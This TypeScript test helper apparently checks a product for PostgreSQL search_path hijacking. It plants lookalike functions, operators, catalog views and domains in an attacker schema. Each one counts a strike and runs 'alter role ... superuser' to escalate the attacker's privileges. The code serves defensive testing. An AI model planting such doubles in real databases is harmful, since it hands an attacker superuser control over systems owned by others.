/** Runs one statement as the attacker, in the attacker's database. */
export type AsAttacker = (sql: string) => Promise<unknown>;

/** Names that the product could write without `pg_catalog.`: each gets a double that does the same, and strikes first. */
const shadowedFunctions = [
  ...['pg_advisory_xact_lock', 'hashtextextended', 'current_database', 'md5', 'format', 'strpos', 'lower', 'replace'],
  ...[
    'has_schema_privilege',
    'has_table_privilege',
    'has_database_privilege',
    'has_any_column_privilege',
    'pg_has_role',
  ],
  ...['pg_database_size', 'pg_is_in_recovery', 'current_setting', 'set_config', 'pg_backend_pid', 'to_regclass', 'now'],
  ...[
    'pg_notify',
    'starts_with',
    'to_char',
    'jsonb_set',
    'gen_random_uuid',
    'format_type',
    'obj_description',
    'timezone',
  ],
];
const shadowedRelations = [
  ...['pg_class', 'pg_namespace', 'pg_depend', 'pg_database', 'pg_shdescription', 'pg_roles', 'pg_auth_members'],
];
const shadowedTypes = [
  'name',
  'text',
  'oid',
  'regclass',
  'bool',
  'int4',
  'int8',
  'uuid',
  'jsonb',
  'timestamptz',
  'float8',
];
const shadowedOperators = ['=', '<>', '!~', '~', '~~', '||', '>', '<', '>=', '<=', '@>', '#>>', '#>', '->', '->>'];
const operandTypes = ['name', 'text', 'oid', 'int2', 'int4', 'int8', 'bool', 'char', 'jsonb', 'uuid', 'timestamptz'];

/**
 * Plants doubles of the system's functions, operators, tables and types in a schema. Whoever runs one of them counts up
 * `strikes` there and makes the attacker a superuser, if he may; a transaction that may not write fails instead.
 */
export async function plantDoubles(sql: AsAttacker, schema: string, attacker: string): Promise<void> {
  if (schema !== 'public') await sql(`create schema ${schema}`);
  await sql(`create sequence ${schema}.strikes`);
  if (schema !== 'public') await sql(`grant usage on schema ${schema} to public`);
  await sql(`grant all on sequence ${schema}.strikes to public`);
  await sql(`
    create function ${schema}.strike() returns pg_catalog.bool language plpgsql set search_path = pg_catalog as $$
    begin
      if pg_catalog.current_setting('transaction_read_only') = 'on' then raise exception 'planted code ran'; end if;
      perform pg_catalog.nextval('${schema}.strikes');
      begin execute 'alter role ${attacker} superuser'; exception when others then null; end;
      return true;
    end $$`);
  await sql(doublesOfFunctions(schema));
  await sql(doublesOfOperators(schema));
  for (const relation of shadowedRelations)
    await sql(`
      create view ${schema}.${relation} as select * from pg_catalog.${relation} where ${schema}.strike();
      grant select on ${schema}.${relation} to public`);
}

/** As domains whose check strikes; only where `pg_catalog` is looked through after the schema do they count. */
export async function plantTypes(sql: AsAttacker, schema: string): Promise<void> {
  for (const type of shadowedTypes)
    await sql(`create domain ${schema}.${type} as pg_catalog.${type} check (${schema}.strike())`);
}

/** How often planted code ran. */
export async function strikes(sql: AsAttacker, schema: string): Promise<number> {
  const rows = (await sql(`select is_called, last_value from ${schema}.strikes`)) as {
    is_called: boolean;
    last_value: string;
  }[];
  return rows[0]?.is_called ? Number(rows[0].last_value) : 0;
}

function doublesOfFunctions(schema: string): string {
  return `
    do $do$ declare f record; begin
      for f in
        select p.proname, p.pronargs,
               pg_catalog.pg_get_function_identity_arguments(p.oid) as arguments,
               pg_catalog.format_type(p.prorettype, null) as result
        from pg_catalog.pg_proc p
        where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and not p.proretset and p.provariadic = 0
          and p.proname in (${listOf(shadowedFunctions)})
          and not exists (select from pg_catalog.unnest(p.proargtypes) a join pg_catalog.pg_type t on t.oid = a where t.typtype = 'p')
      loop
        execute pg_catalog.format(
          'create function ${schema}.%I(%s) returns %s language plpgsql as $f$ begin perform ${schema}.strike(); %s; end $f$',
          f.proname, f.arguments, f.result,
          case when f.result = 'void' then 'perform ' else 'return ' end
          || pg_catalog.format('pg_catalog.%I(%s)', f.proname,
               (select pg_catalog.string_agg('$' || i, ', ') from pg_catalog.generate_series(1, f.pronargs) i)));
      end loop;
    end $do$`;
}

function doublesOfOperators(schema: string): string {
  return `
    do $do$ declare o record; begin
      for o in
        select op.oid, op.oprname, pg_catalog.format_type(op.oprleft, null) as l, pg_catalog.format_type(op.oprright, null) as r,
               pg_catalog.format_type(op.oprresult, null) as result
        from pg_catalog.pg_operator op
        join pg_catalog.pg_type lt on lt.oid = op.oprleft join pg_catalog.pg_type rt on rt.oid = op.oprright
        where op.oprnamespace = 'pg_catalog'::regnamespace and op.oprname in (${listOf(shadowedOperators)})
          and lt.typname in (${listOf(operandTypes)}) and rt.typname in (${listOf([...operandTypes, '_text'])})
      loop
        execute pg_catalog.format('create function ${schema}.operator_%s(a %s, b %s) returns %s language plpgsql as
          $f$ begin perform ${schema}.strike(); return a operator(pg_catalog.%s) b; end $f$', o.oid, o.l, o.r, o.result, o.oprname);
        execute pg_catalog.format('create operator ${schema}.%s (function = ${schema}.operator_%s, leftarg = %s, rightarg = %s)',
          o.oprname, o.oid, o.l, o.r);
      end loop;
      -- Columns are varchar: operators on exactly that are taken before the system's on text, wherever they are.
      for o in select * from (values ('=', 1), ('<>', 2), ('~', 3), ('>', 4), ('<', 5)) u(oprname, oid),
                             (values ('pg_catalog.varchar', 'v'), ('pg_catalog.text', 't')) r(r, short)
      loop
        execute pg_catalog.format('create function ${schema}.varchar_%s_%s(a pg_catalog.varchar, b %s) returns pg_catalog.bool language plpgsql as
          $f$ begin perform ${schema}.strike(); return a::pg_catalog.text operator(pg_catalog.%s) b::pg_catalog.text; end $f$', o.oid, o.short, o.r, o.oprname);
        execute pg_catalog.format('create operator ${schema}.%s (function = ${schema}.varchar_%s_%s, leftarg = pg_catalog.varchar, rightarg = %s)',
          o.oprname, o.oid, o.short, o.r);
      end loop;
    end $do$`;
}

function listOf(names: readonly string[]): string {
  return names.map((name) => `'${name}'`).join(', ');
}
